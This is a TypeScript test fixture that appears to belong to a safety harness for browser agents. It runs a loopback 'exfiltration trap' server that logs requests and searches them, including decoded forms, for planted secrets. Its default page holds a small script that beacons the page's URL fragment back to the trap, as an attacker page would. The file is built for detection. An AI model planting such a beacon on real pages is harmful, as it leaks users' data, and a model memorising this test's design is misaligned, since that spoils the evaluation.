import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * What the trap answers by default: a page whose script reports its own address, fragment
 * included, back to the trap, as an attacker's page would (a fragment never reaches a server by
 * itself, so data put there leaks only this way).
 */
const THANKS_PAGE =
  '<!doctype html><html><head><title>Thanks</title></head><body><h1>Thanks</h1><p>Got it.</p>' +
  "<script>if (location.hash) fetch('/beacon?u=' + encodeURIComponent(location.href));</script></body></html>";

/** One request the trap received, as it arrived. */
export interface TrapRequest {
  method: string;
  /** Path and query, as sent. */
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A request that carried one of the needles, with the needles it carried. */
export interface TrapHit {
  request: TrapRequest;
  found: string[];
}

/**
 * An exfiltration endpoint on another loopback origin (127.0.0.2 by default, its own port: for an
 * IP host only the exact host:port is the same site, so it is outside any task that names the
 * fixture site). It counts TCP connections (the server's 'connection' event, so a connection that
 * never sends a request counts too) and records every request's method, URL, headers and body.
 * `pages` are served as HTML by path (the partner sign-in); every other path answers a small page
 * that reports its own fragment back (`/beacon?u=…`).
 */
export class ExfilTrap {
  connections = 0;
  readonly requests: TrapRequest[] = [];
  readonly #server: Server;
  readonly #pages: Map<string, string>;
  #origin = '';

  private constructor(pages: Record<string, string>) {
    this.#pages = new Map(Object.entries(pages));
    this.#server = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const request: TrapRequest = { method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') };
        this.requests.push(request);
        const path = new URL(request.url, 'http://trap.invalid').pathname;
        const html = (request.method === 'GET' ? this.#pages.get(path) : undefined) ?? (path === '/beacon' ? '' : THANKS_PAGE);
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
        res.end(html);
      });
    });
    this.#server.on('connection', () => {
      this.connections++;
    });
  }

  static async start(options: { host?: string; pages?: Record<string, string> } = {}): Promise<ExfilTrap> {
    const host = options.host ?? '127.0.0.2';
    const trap = new ExfilTrap(options.pages ?? {});
    await new Promise<void>((resolve, reject) => {
      trap.#server.once('error', reject);
      trap.#server.listen(0, host, () => resolve());
    });
    trap.#origin = `http://${host}:${(trap.#server.address() as AddressInfo).port}`;
    return trap;
  }

  /** e.g. http://127.0.0.2:41234 */
  get origin(): string {
    return this.#origin;
  }

  /** Forgets what it saw (between scenarios that share the trap). */
  reset(): void {
    this.connections = 0;
    this.requests.length = 0;
  }

  /**
   * The requests that carried any of `needles` (case-insensitive) anywhere: URL, headers (a
   * Referer too) or body, each searched as sent and decoded (percent-encoding, `+` for a space,
   * up to three layers, and base64 words), so an encoding does not hide a value.
   */
  carrying(needles: readonly string[]): TrapHit[] {
    const wanted = needles.filter((n) => n.length > 0).map((n) => n.toLowerCase());
    return this.requests.flatMap((request) => {
      const text = readable(`${request.method} ${request.url}\n${Object.entries(request.headers).map(([k, v]) => `${k}: ${String(v)}`).join('\n')}\n\n${request.body}`);
      const found = wanted.filter((n) => text.includes(n));
      return found.length === 0 ? [] : [{ request, found }];
    });
  }

  /** What it saw, for a failing assertion's message. */
  describe(): string {
    return JSON.stringify({ connections: this.connections, requests: this.requests.map((r) => ({ method: r.method, url: r.url, referer: r.headers.referer, body: r.body })) }, null, 1);
  }

  async close(): Promise<void> {
    const closed = new Promise<void>((resolve) => this.#server.close(() => resolve()));
    this.#server.closeAllConnections();
    await closed;
  }
}

/** The text in every layer of encoding the trap undoes, lower-cased, one after another. */
function readable(raw: string): string {
  const layers = [raw];
  let current = raw;
  for (let i = 0; i < 3; i++) {
    const next = decode(current.replace(/\+/g, ' '));
    if (next === current) break;
    layers.push(next);
    current = next;
  }
  for (const word of raw.match(/[A-Za-z0-9+/_-]{12,}={0,2}/g) ?? []) {
    const text = Buffer.from(word.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8');
    if (/^[\x20-\x7e\u00a0-\uffff]*$/.test(text)) layers.push(text);
  }
  return layers.join('\n').toLowerCase();
}

function decode(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    // A stray %: decode what can be decoded.
    return text.replace(/(%[0-9a-f]{2})+/gi, (run) => {
      try {
        return decodeURIComponent(run);
      } catch {
        return run;
      }
    });
  }
}
